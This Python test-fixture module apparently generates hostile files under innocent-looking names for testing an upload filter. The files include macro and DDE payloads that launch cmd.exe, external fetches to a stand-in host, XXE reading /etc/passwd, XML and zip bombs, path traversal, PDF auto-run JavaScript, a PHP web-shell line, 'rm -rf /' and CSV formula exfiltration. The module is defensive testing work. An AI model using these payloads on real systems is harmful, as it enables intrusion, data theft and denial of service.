"""Hostile files, made when needed: each is one trick under the name that it would come with. None may be taken in."""

import io
import lzma
import struct
import zipfile
import zlib

from PIL import Image

from .honest import (
    MP3_FRAME,
    OFFICE,
    WORD,
    animation,
    box,
    mp3,
    mp4,
    object_stream,
    ofd,
    office,
    office_parts,
    packed,
    pdf,
    photograph,
    picture,
    relations,
)

HTML = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def with_part(name, content=b"x", kind="docx", **types):
    return packed(office_parts(kind, **types) | {name: content})


def with_relation(kind, target, mode="External", part="word/_rels/document.xml.rels", office_kind="docx"):
    return packed(office_parts(office_kind) | {part: relations((f"{OFFICE}/{kind}", target, mode))})


def with_field(*runs):
    body = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return office("docx", body=f"<w:p>{body}</w:p>")


def bomb(real=400 * 1024 * 1024):
    """A docx with one part that unpacks to `real` bytes, honestly declared."""
    return with_part("word/media/image1.png", b"\x00" * real) if real < 10**6 else _streamed(real)


def _streamed(real):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in office_parts("docx").items():
            archive.writestr(name, content)
        with archive.open("word/header9.xml", "w", force_zip64=False) as part:
            for _ in range(real // 1024 // 1024):
                part.write(b"\x00" * 1024 * 1024)
    return buffer.getvalue()


def lying_bomb():
    """A part of 300 MB that is declared with 1,000 bytes, in the table and in its own header."""
    content = bytearray(_streamed(300 * 1024 * 1024))
    name = b"word/header9.xml"
    table = content.rfind(b"PK\x01\x02", 0, content.rfind(name))
    struct.pack_into("<I", content, table + 24, 1000)
    local = content.find(name) - 30
    struct.pack_into("<I", content, local + 22, 1000)
    return bytes(content)


def overlapping():
    """Two entries of the table that share one packed body (the principle of the 42-fold bombs)."""
    content = bytearray(packed(office_parts("docx") | {"word/a.xml": b"<a/>" * 999, "word/b.xml": b"<a/>" * 999}))
    second = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/b.xml"))
    first = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/a.xml"))
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def flagged_encrypted():
    content = bytearray(office("docx"))
    position = content.find(b"PK\x01\x02")
    while position >= 0:
        content[position + 8] |= 1
        position = content.find(b"PK\x01\x02", position + 1)
    return bytes(content)


def renamed_in_table():
    """The table calls a part by another name than its own header does."""
    content = bytearray(with_part("word/vbaProject.bin"))
    at = content.rfind(b"word/vbaProject.bin")
    content[at : at + 19] = b"word/innocent12.xml"
    return bytes(content)


def doubled_part():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in office_parts("docx").items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", "<x/>")
    return buffer.getvalue()


def huge_png(side=30_000):
    """A PNG head that declares 900 million pixels."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    body = zlib.compress(b"\x00" * 100_000)
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def many_frames(count=400):
    frames = [Image.new("RGB", (40, 40), (number % 256, number // 256, 9)) for number in range(count)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=20)
    return buffer.getvalue()


def jpeg_comment(text):
    content = picture()
    return content[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + content[2:]


JAVASCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)

HOSTILE = {
    # Macros, controls, embedded things
    "宏改名.docx": lambda: office("docx", main_type=MACRO_TYPE),
    "宏部件.docx": lambda: with_part("word/vbaProject.bin", OLE),
    "宏部件大写.docx": lambda: with_part("word/VBAPROJECT.BIN", OLE),
    "宏换名.docx": lambda: with_part(
        "word/theme1.xml",
        OLE,
        extra_types='<Override PartName="/word/theme1.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    "宏关系.docx": lambda: packed(
        office_parts("docx")
        | {
            "word/_rels/document.xml.rels": relations(
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml", "")
            )
        }
    ),
    "宏表.xlsx": lambda: with_part("xl/macrosheets/sheet1.xml", "<x/>", "xlsx"),
    "宏表国际.xlsx": lambda: with_part("xl/intlMacrosheets/sheet1.xml", "<x/>", "xlsx"),
    "对话表.xlsx": lambda: with_part("xl/dialogsheets/sheet1.xml", "<x/>", "xlsx"),
    "自定义界面.docx": lambda: with_part("customUI/customUI.xml", "<x/>"),
    "控件.docx": lambda: with_part("word/activeX/activeX1.xml", "<x/>"),
    "对象.docx": lambda: with_part("word/embeddings/oleObject1.bin", OLE),
    "对象装作图片.docx": lambda: with_part("word/media/image1.png", OLE),
    "程序装作图片.docx": lambda: with_part("word/media/image1.png", b"MZ\x90\x00" + b"\x00" * 100),
    "压缩包装作图片.pptx": lambda: with_part("ppt/media/image1.png", packed({"a.txt": b"a"}), "pptx"),
    "内嵌工作簿.docx": lambda: with_part("word/embeddings/Sheet1.xlsx", office("xlsx")),
    "程序.docx": lambda: with_part("word/run.exe", b"MZ"),
    "网页块.docx": lambda: with_part("word/afchunk.htm", HTML),
    "脚本图.docx": lambda: with_part("word/media/a.svg", b'<svg xmlns="x"><script>1</script></svg>'),
    # Things fetched or run on opening
    "外部模板.docx": lambda: with_relation("attachedTemplate", "http://198.51.100.7/a.dotm"),
    "外部对象.docx": lambda: with_relation("oleObject", "http://198.51.100.7/a.hta"),
    "外部图片.docx": lambda: with_relation("image", "\\\\198.51.100.7\\a\\b.png"),
    "外部框架.docx": lambda: with_relation("frame", "http://198.51.100.7/"),
    "脚本链接.docx": lambda: with_relation("hyperlink", "javascript:alert(1)"),
    "本机链接.docx": lambda: with_relation("hyperlink", "file://///198.51.100.7/a"),
    "外部工作簿.xlsx": lambda: with_part("xl/externalLinks/externalLink1.xml", "<x/>", "xlsx"),
    "数据连接.xlsx": lambda: with_part("xl/connections.xml", "<x/>", "xlsx"),
    "动态交换.docx": lambda: with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "动态交换拆开.docx": lambda: with_field("DD", "EAU", "TO cmd"),
    "引入文字.docx": lambda: with_field("INCLUDETEXT http://198.51.100.7/a"),
    "动态交换.xlsx": lambda: with_part(
        "xl/worksheets/sheet2.xml", "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>", "xlsx"
    ),
    "动态交换转义.xlsx": lambda: with_part(
        "xl/a.xml", "<worksheet><x:f>cmd&#124;'/c calc'!A0</x:f></worksheet>", "xlsx"
    ),
    "动态交换分段.xlsx": lambda: with_part(
        "xl/a.xml", "<worksheet><f>cmd<![CDATA[|]]>'/c calc'<!-- -->!A0</f></worksheet>", "xlsx"
    ),
    "动态交换严格格式.docx": lambda: with_part(
        "other/a.xml",
        '<a:p xmlns:a="http://purl.oclc.org/ooxml/wordprocessingml/main"><a:instrText>D&#68;E x</a:instrText></a:p>',
    ),
    "动态交换宽.docx": lambda: with_part(
        "word/header1.xml",
        f'<?xml version="1.0" encoding="UTF-16"?><w:hdr xmlns:w="{WORD}"><w:fldSimple w:instr="DDE x"/></w:hdr>'.encode(
            "utf-16"
        ),
    ),
    "古怪编码.docx": lambda: with_part("word/header1.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
    "古怪编码二.docx": lambda: with_part(
        "word/header1.xml", '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")
    ),
    "运行程序.pptx": lambda: with_part("ppt/slides/slide1.xml", '<a action="ppaction://program"/>', "pptx"),
    # XML
    "外部实体.docx": lambda: with_part("word/footer1.xml", DOCTYPE + "<a>&x;</a>"),
    "外部实体宽.docx": lambda: with_part("word/footer1.xml", (DOCTYPE + "<a>&x;</a>").encode("utf-16")),
    "十亿大笑.xlsx": lambda: with_part("xl/sharedStrings.xml", LAUGHS, "xlsx"),
    # Archives
    "炸弹.docx": bomb,
    "说谎的炸弹.docx": lying_bomb,
    "重叠.docx": overlapping,
    "部件过多.docx": lambda: packed(office_parts("docx") | {f"word/p{n}.xml": b"<a/>" for n in range(6000)}),
    "越界.docx": lambda: with_part("../../../etc/cron.d/x.xml", "<x/>"),
    "绝对路径.docx": lambda: with_part("/etc/passwd.xml", "<x/>"),
    "反斜杠.docx": lambda: with_part("..\\..\\x.xml", "<x/>"),
    "密码.docx": flagged_encrypted,
    "密码容器.docx": lambda: OLE + "EncryptedPackage".encode("utf-16-le"),
    "两个名字.docx": renamed_in_table,
    "重名.docx": doubled_part,
    "不常见压缩.docx": lambda: packed(office_parts("docx"), zipfile.ZIP_LZMA),
    "前面有东西.docx": lambda: HTML + office("docx"),
    "后面有东西.docx": lambda: office("docx") + HTML,
    "注释里有东西.docx": lambda: office("docx")[:-2] + struct.pack("<H", len(HTML)) + HTML,
    "截断.docx": lambda: office("docx")[:-40],
    "空压缩包.docx": lambda: b"PK\x05\x06" + b"\x00" * 18,
    "压缩包.zip": lambda: packed({"a.txt": b"a"}),
    "压缩包.docx": lambda: packed({"a.txt": b"a"}),
    "附件.ofd": lambda: ofd(**{"Doc_0/Attachs/run.exe": b"MZ"}),
    "对象.ofd": lambda: ofd(**{"Doc_0/Res/image_1.png": b"MZ\x90\x00"}),
    # PDF
    "脚本.pdf": lambda: pdf(JAVASCRIPT, root="/OpenAction 6 0 R"),
    "脚本名转义.pdf": lambda: pdf("<< /S /J#61vaScr#69pt /J#53 (1) >>", root="/OpenAction 6 0 R"),
    "脚本压缩.pdf": lambda: pdf(object_stream(JAVASCRIPT), root="/OpenAction 20 0 R"),
    "脚本压缩无类型.pdf": lambda: pdf(object_stream(JAVASCRIPT, kind="/Type 9 0 R"), root="/OpenAction 20 0 R"),
    "脚本压缩注释.pdf": lambda: pdf(
        object_stream(JAVASCRIPT, kind="/Type 9 0 R", pack=lambda text: zlib.compress(b"%c\n " + text))
    ),
    "脚本双重压缩.pdf": lambda: pdf(
        object_stream(
            JAVASCRIPT,
            filters="/Filter [/ASCIIHexDecode /FlateDecode]",
            pack=lambda text: zlib.compress(text).hex().encode() + b">",
        )
    ),
    "脚本LZMA.pdf": lambda: pdf(object_stream(JAVASCRIPT, pack=lzma.compress)),
    "脚本藏在字符串后.pdf": lambda: pdf("<< /X (>>\nstream\n) >>", JAVASCRIPT, root="/OpenAction 7 0 R"),
    "启动.pdf": lambda: pdf("<< /S /Launch /F (cmd.exe) >>", root="/OpenAction 6 0 R"),
    "附件.pdf": lambda: pdf(
        "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream", root="/Names << /EmbeddedFiles 6 0 R >>"
    ),
    "多媒体.pdf": lambda: pdf("<< /Subtype /RichMedia >>", page="/Annots [6 0 R]"),
    "动态表单.pdf": lambda: pdf(root="/AcroForm << /XFA [(a) 6 0 R] >>"),
    "提交.pdf": lambda: pdf("<< /S /SubmitForm /F (http://198.51.100.7/) >>", root="/OpenAction 6 0 R"),
    "打开别的文件.pdf": lambda: pdf("<< /S /GoToR /F (//198.51.100.7/a) >>", root="/OpenAction 6 0 R"),
    "密码.pdf": lambda: pdf("<< /Filter /Standard /V 2 >>", trailer="/Encrypt 6 0 R"),
    "压缩炸弹.pdf": lambda: pdf(object_stream("0 " * 60_000_000)),
    "许多流.pdf": lambda: b"%PDF-1.5\n" + b"stream\n" * 3_000_000 + b"%%EOF\n",
    "兼作压缩包.pdf": lambda: pdf()[:-6] + packed({"a.exe": b"MZ"}) + b"%%EOF\n",
    "前面有网页.pdf": lambda: HTML + pdf(),
    "后面有程序.pdf": lambda: pdf() + b"MZ" + b"\x00" * 500,
    "网页开头.pdf": lambda: pdf(head=b"%PDF-1.5\n%" + HTML + b"\n"),
    "只有开头.pdf": lambda: b"%PDF-1.7\n",
    # Pictures
    "兼作网页.jpg": lambda: photograph() + HTML,
    "注释里的脚本.jpg": lambda: jpeg_comment(b"<script>alert(1)</script>"),
    "注释里的程序.jpg": lambda: jpeg_comment(b"<?php system($_GET[0]); ?>"),
    "兼作压缩包.jpg": lambda: photograph() + packed({"a.exe": b"MZ"}),
    "兼作压缩包.png": lambda: picture("PNG") + packed({"a.exe": b"MZ"}),
    "兼作脚本.gif": lambda: b"GIF89a/*" + animation()[8:] + b"*/=1;<script>alert(1)</script>",
    "像素过多.png": huge_png,
    "帧数过多.gif": many_frames,
    "截断.jpg": lambda: photograph()[:200],
    "矢量图.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "矢量图.png": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "点阵图.png": lambda: picture("BMP"),
    "换名.jpg": lambda: picture("PNG"),
    # Text
    "网页.html": lambda: HTML,
    "网页.txt": lambda: "说明\n".encode() + HTML,
    "宽网页.txt": lambda: HTML.decode().encode("utf-16"),
    "病毒样本.txt": lambda: EICAR,
    "程序.txt": lambda: b"MZ\x90\x00\x03\x00\x00\x00",
    "脚本.txt": lambda: b"#!/bin/sh\nrm -rf /\n",
    "方向.txt": lambda: "下载 \u202egnp.exe".encode(),
    "公式.csv": lambda: b"a,b\n=cmd|'/C calc'!A0,1\n",
    "公式二.csv": lambda: b'a,b\n1,"=HYPERLINK(""http://198.51.100.7/?""&A1)"\n',
    "二进制.csv": lambda: bytes(range(256)),
    # Sound and pictures that move
    "夹带.mp3": lambda: mp3(tail=packed({"a.exe": b"MZ"})),
    "网页.mp3": lambda: mp3(tag=HTML),
    "假的.mp3": lambda: MP3_FRAME[:4] + b"MZ" * 300,
    "夹带.mp4": lambda: mp4(tail=HTML),
    "网页.mp4": lambda: mp4(udta=HTML),
    "盒子过长.mp4": lambda: mp4()[:-30],
    "没有内容.mp4": lambda: box(b"ftyp", b"isom"),
    # Programs and names
    "程序.exe": lambda: b"MZ",
    "通知.pdf.exe": lambda: b"MZ",
    "通知\u202efdp.exe": lambda: b"MZ",
    "通知.exe.docx": lambda: b"MZ\x90\x00",
    "没有扩展名": lambda: pdf(),
    "宏.docm": lambda: office("docx", main_type=MACRO_TYPE),
    "旧文档.doc": lambda: OLE,
    "装作文档.docx": lambda: pdf(),
    "空的.pdf": lambda: b"",
}
